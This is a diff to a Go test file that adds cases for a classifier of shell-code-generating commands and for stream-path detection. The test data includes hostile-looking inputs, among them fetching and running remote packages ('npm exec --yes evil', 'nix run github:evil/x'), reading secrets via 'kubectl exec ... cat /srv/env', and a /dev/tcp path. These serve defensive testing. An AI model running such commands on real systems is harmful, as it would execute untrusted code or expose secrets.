@@ -10,6 +10,12 @@ func TestGeneratesShellCode(t *testing.T) {
 		"kubectl completion bash": true, "pyenv init -": true, "ssh-agent -s": true,
 		"/opt/homebrew/bin/brew shellenv": true, "gh api repos/x/y": false, "kubectl get pods": false,
 		"pbpaste": false, "rbw get x": false,
+		"conda shell.bash hook": true, "rustup completions bash": true, "minikube -p dev docker-env": true,
+		"fzf --bash": true, "gh completion -s bash": true, "keychain --eval id_rsa": true,
+		"./kubectl completion bash": false, "/tmp/x/pyenv init -": false, "/home/dev/Downloads/direnv hook bash": false,
+		"gh gist view abc --raw --filename shell.sh": false, "gh gist view abc --raw -s": false,
+		"npm exec --yes evil -- init": false, "kubectl exec web -- cat /srv/env": false,
+		"helm get values rel -o json --export": false, "nix run github:evil/x -- shellenv": false,
 	}
 	for src, want := range cases {
 		if got := GeneratesShellCode(strings.Fields(src)); got != want {
@@ -44,5 +50,16 @@ func TestProcSubstScript(t *testing.T) {
 	}
 	if !found {
 		t.Errorf("bash <(cat a.sh) did not run what the line wrote to a.sh: %+v", r.Commands)
+	}
+}
+
+func TestPagerOperandsAndStreams(t *testing.T) {
+	if got := strings.Join(pagerOperands(strings.Fields("-n 5 s.sh -c 10 t.sh")), " "); got != "s.sh t.sh" {
+		t.Errorf("pagerOperands = %q, want %q", got, "s.sh t.sh")
+	}
+	for p, want := range map[string]bool{"-": true, "/dev/stdin": true, "/dev/tcp/h/80": true, "/proc/self/fd/0": true, "s.sh": false, "/tmp/p": false} {
+		if got := streamPath(p); got != want {
+			t.Errorf("streamPath(%q) = %v, want %v", p, got, want)
+		}
 	}
 }
